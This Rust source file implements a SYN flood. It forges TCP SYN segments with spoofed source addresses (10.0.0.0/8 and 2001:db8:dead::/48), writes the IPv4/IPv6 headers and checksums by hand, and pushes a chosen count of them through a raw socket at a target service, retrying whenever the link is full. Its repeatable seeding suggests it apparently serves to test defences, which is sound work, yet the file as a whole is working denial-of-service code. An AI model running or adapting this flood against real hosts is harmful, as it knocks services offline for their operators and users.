//! A SYN flood: segments with sources that do not exist, as an attacker sends them.
//!
//! Raw sockets take the whole IP packet from us and find the way themselves, so the
//! packets reach the host as any others do.

use std::{
    net::{Ipv4Addr, Ipv6Addr, SocketAddr},
    os::fd::AsRawFd as _,
};

use anyhow::{Result, bail};
use nix::{
    errno::Errno,
    sys::socket::{
        AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrStorage, sendto, socket,
    },
};

const TCP_LENGTH: u8 = 24;

/// Numbers that look random and are the same each time (xorshift64).
pub struct Random(u64);

impl Random {
    /// A sequence of its own for each seed.
    pub fn new(seed: u64) -> Self {
        Self(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1)
    }

    /// The next number.
    #[expect(
        clippy::should_implement_trait,
        reason = "numbers without an end are no collection"
    )]
    pub fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    /// True in `share` of the cases.
    pub fn chance(&mut self, share: f64) -> bool {
        ((self.next() >> 11) as f64) < share * (1_u64 << 53) as f64
    }
}

/// Sends so many SYNs to the service, each from another address and port, from the
/// network in which it is called. Returns when all have been taken by the link.
pub fn syn_flood(service: SocketAddr, count: u32) -> Result<()> {
    let (family, address) = match service {
        SocketAddr::V4(_) => (AddressFamily::Inet, SocketAddr::new(service.ip(), 0)),
        SocketAddr::V6(_) => (AddressFamily::Inet6, SocketAddr::new(service.ip(), 0)),
    };
    let raw = socket(
        family,
        SockType::Raw,
        SockFlag::SOCK_CLOEXEC,
        SockProtocol::Raw,
    )?;
    let to = SockaddrStorage::from(address);
    let mut random = Random::new(u64::from(service.port()));
    for _ in 0..count {
        let packet = syn(service, &mut random);
        loop {
            match sendto(raw.as_raw_fd(), &packet, &to, MsgFlags::empty()) {
                Ok(_) => break,
                // The link is full.
                Err(Errno::ENOBUFS | Errno::EAGAIN) => std::thread::yield_now(),
                Err(error) => bail!("sending a SYN to {service}: {error}"),
            }
        }
    }
    Ok(())
}

/// An IP packet with a SYN of a source that nobody has: 10.0.0.0/8, `2001:db8:dead::/48`.
fn syn(service: SocketAddr, random: &mut Random) -> Vec<u8> {
    let numbers = random.next().to_be_bytes();
    let host = random.next().to_be_bytes();
    let mut packet;
    let pseudo: Vec<u8>;
    match service {
        SocketAddr::V4(service) => {
            let source = Ipv4Addr::new(10, host[0], host[1], host[2]).octets();
            pseudo = [source, service.ip().octets()].concat();
            // The kernel fills in the length and the header's checksum.
            packet = vec![0x45, 0, 0, 0, 0, 0, 0, 0, 64, 6, 0, 0];
        }
        SocketAddr::V6(service) => {
            let mut source = Ipv6Addr::new(0x2001, 0xdb8, 0xdead, 0, 0, 0, 0, 0).octets();
            source[8..].copy_from_slice(&host);
            pseudo = [source, service.ip().octets()].concat();
            packet = vec![0x60, 0, 0, 0, 0, TCP_LENGTH, 6, 64];
        }
    }
    packet.extend(&pseudo);
    let start = packet.len();
    packet.extend([0x28 | numbers[0], numbers[1]]);
    packet.extend(service.port().to_be_bytes());
    packet.extend(&numbers[2..6]);
    // No acknowledgment; six words; SYN; a window; an MSS.
    packet.extend([0, 0, 0, 0, 0x60, 2, 0xff, 0xff, 0, 0, 0, 0]);
    packet.extend([2, 4, 0x05, 0xb4]);
    let sum = 6 + u32::from(TCP_LENGTH) + sum(&pseudo) + sum(&packet[start..]);
    let sum = (sum & 0xffff) + (sum >> 16);
    let sum = (sum & 0xffff) + (sum >> 16);
    let checksum = !u16::try_from(sum).unwrap_or_default();
    packet[start + 16..start + 18].copy_from_slice(&checksum.to_be_bytes());
    packet
}

/// RFC 1071's sum, not folded.
fn sum(bytes: &[u8]) -> u32 {
    bytes
        .as_chunks::<2>()
        .0
        .iter()
        .map(|pair| u32::from(u16::from_be_bytes(*pair)))
        .sum()
}
